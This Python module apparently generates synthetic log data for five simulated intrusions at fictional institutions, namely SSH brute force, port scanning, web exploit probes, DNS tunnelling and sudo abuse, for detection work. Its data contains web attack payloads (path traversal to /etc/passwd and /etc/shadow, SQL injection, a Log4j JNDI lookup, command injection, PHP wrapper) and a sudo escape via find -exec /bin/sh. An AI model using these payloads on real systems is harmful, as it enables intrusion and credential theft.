"""The five incidents of the day, each at another institution."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator

from .firewalls import pfsense
from .sensors import dns, eve, flow
from .unix import LOGIN, WARD, session
from .world import BASE32, Dice, Line

_SERVICES = (
    21, 22, 23, 25, 53, 80, 81, 88, 110, 111, 119, 135, 137, 139, 143, 161, 179, 389, 427, 443, 445, 465, 500, 502, 512, 513, 514, 515, 548,
    554, 587, 593, 623, 631, 636, 873, 902, 990, 993, 995, 1080, 1099, 1194, 1433, 1521, 1723, 1883, 1900, 2049, 2082, 2083, 2181, 2222,
    2375, 2376, 3000, 3128, 3268, 3306, 3389, 3478, 4369, 4443, 4786, 5000, 5060, 5432, 5555, 5601, 5672, 5900, 5985, 5986, 6000, 6379,
    6443, 7001, 7077, 8000, 8008, 8009, 8080, 8081, 8086, 8088, 8089, 8161, 8291, 8443, 8500, 8834, 8888, 9000, 9042, 9090, 9092, 9100,
    9200, 9300, 9418, 9999, 10000, 10250, 11211, 15672, 27017, 50000, 50070,
)  # fmt: skip
_EXPLOITS = (  # what is asked for, and what the sensor's local rules call it
    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 1000101, "WEB_SERVER path traversal to /etc/passwd in URI", "Web Application Attack"),
    ("/catalogue/item?id=1%20UNION%20SELECT%20name,pw%20FROM%20users", 1000102, "WEB_SERVER SQL injection UNION SELECT in URI",
     "Web Application Attack"),
    ("/?x=${jndi:ldap://198.51.100.213/a}", 1000103, "EXPLOIT Apache Log4j JNDI lookup in URI (CVE-2021-44228)",
     "Attempted Administrator Privilege Gain"),
    ("/cgi-bin/status.sh?cmd=id;uname", 1000104, "WEB_SERVER shell command in parameter of CGI script", "Web Application Attack"),
    ("/upload.php?file=../../../../etc/shadow", 1000105, "WEB_SERVER path traversal to /etc/shadow in URI", "Web Application Attack"),
    ("/index.php?page=php://input", 1000106, "EXPLOIT PHP stream wrapper in parameter", "Attempted User Privilege Gain"),
)  # fmt: skip


def brute_force(dice: Dice) -> Iterator[Line]:
    """Harbour University, 02:11 UTC: 64 guesses at five accounts from one address, then l.gruber's password is right."""
    source, at = "203.0.113.201", 2 * 3600 + 11 * 60.0
    for turn in range(64):
        pid, port, at = 31_000 + 3 * turn, dice.port(), at + dice.uniform(3, 8)
        name, known = (("root", True), ("admin", False), ("backup", False), ("m.huber", True), ("l.gruber", True))[turn % 5]
        if not known:
            yield LOGIN.sshd(at - 2, pid, f"Invalid user {name} from {source} port {port}")
        yield LOGIN.sshd(at, pid, f"Failed password for {'' if known else 'invalid user '}{name} from {source} port {port} ssh2")
        yield LOGIN.sshd(at + 0.3, pid, f"Received disconnect from {source} port {port}:11: Bye Bye [preauth]")
    yield from session(dice, LOGIN, at + 6, "l.gruber", source, method="password")


def port_scan(dice: Dice) -> Iterator[Line]:
    """Ministry of Health, 13:40 UTC: one address tries over a hundred services of the public server in three minutes."""
    at, services = 13 * 3600 + 40 * 60.0, list(_SERVICES)
    dice.shuffle(services)
    for port in services:
        at += dice.uniform(0.6, 2.4)
        yield pfsense(dice, at, "block", "in", "198.51.100.222", "198.51.100.40", "TCP", port)


def web_exploit(dice: Dice) -> Iterator[Line]:
    """National Library, 09:26 UTC: six holes of web servers are tried at the catalogue; the sensor raises its alerts."""
    at, source = 9 * 3600 + 26 * 60.0, "198.51.100.213"
    for url, number, signature, category in _EXPLOITS:
        at += dice.uniform(8, 20)
        ends, tied = (source, dice.port(), "203.0.113.40", 80), dice.randrange(10**14, 10**15)
        http = {"hostname": "catalogue.library-national.example", "url": url, "http_user_agent": "python-requests/2.31.0",
                "http_method": "GET", "protocol": "HTTP/1.1", "status": 404, "length": 196}  # fmt: skip
        alert = {
            "action": "allowed",
            "gid": 1,
            "signature_id": number,
            "rev": 3,
            "signature": signature,
            "category": category,
            "severity": 1,
        }
        yield eve(at, "http", *ends, "TCP", tied, tx_id=0, http=http)
        yield eve(at + 0.01, "alert", *ends, "TCP", tied, tx_id=0, alert=alert, http=http, app_proto="http")
        yield flow(dice, at + 3, ends, "TCP", tied, "http", 3)


def dns_tunnel(dice: Dice) -> Iterator[Line]:
    """Institute of Physics, 10:05 UTC: a desktop carries 300 messages out in names under one domain, answered by TXT records."""
    at = 10 * 3600 + 5 * 60.0
    for number in range(300):
        at += dice.expovariate(1 / 4)
        name = f"{number:04x}{dice.token(50, BASE32)}.{dice.token(54, BASE32)}.t.cdn-sync.example"
        answer = b64encode(dice.randbytes(60)).decode()
        yield from dns(dice, at, "203.0.113.21", name, "TXT", [f"TXT {len(answer)} {answer}"])


def sudo_abuse(dice: Dice) -> Iterator[Line]:
    """Lakeside Hospital, 15:17 UTC: an account that may only search files tries for root, gets a shell out of find, and keeps it."""
    user, at, folder = "m.lang", 15 * 3600 + 17 * 60.318_204, "/home/m.lang"
    root = f"pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={1001 + WARD.people.index(user)})"
    yield from session(dice, WARD, at, user, "192.0.2.118", method="password")
    for after, command in ((40, "/usr/bin/cat /etc/shadow"), (61, "/bin/bash"), (75, "/usr/bin/vim /etc/sudoers")):
        yield WARD.sudo(at + after, user, folder, command, reason="command not allowed", terminal="pts/2")
    yield WARD.sudo(at + 311, user, folder, "/usr/bin/find /var/log -maxdepth 0 -exec /bin/sh ;", terminal="pts/2")
    yield WARD.line(at + 311.1, 86, "sudo", 0, root)
    yield WARD.line(at + 402, 86, "sudo", 0, "pam_unix(sudo:session): session closed for user root")
    yield WARD.sudo(at + 431, user, "/tmp/.x", "/usr/bin/cat /etc/shadow", terminal="pts/2")  # meanwhile it may
    yield WARD.line(at + 431.1, 86, "sudo", 0, root)
    yield WARD.line(at + 431.2, 86, "sudo", 0, "pam_unix(sudo:session): session closed for user root")
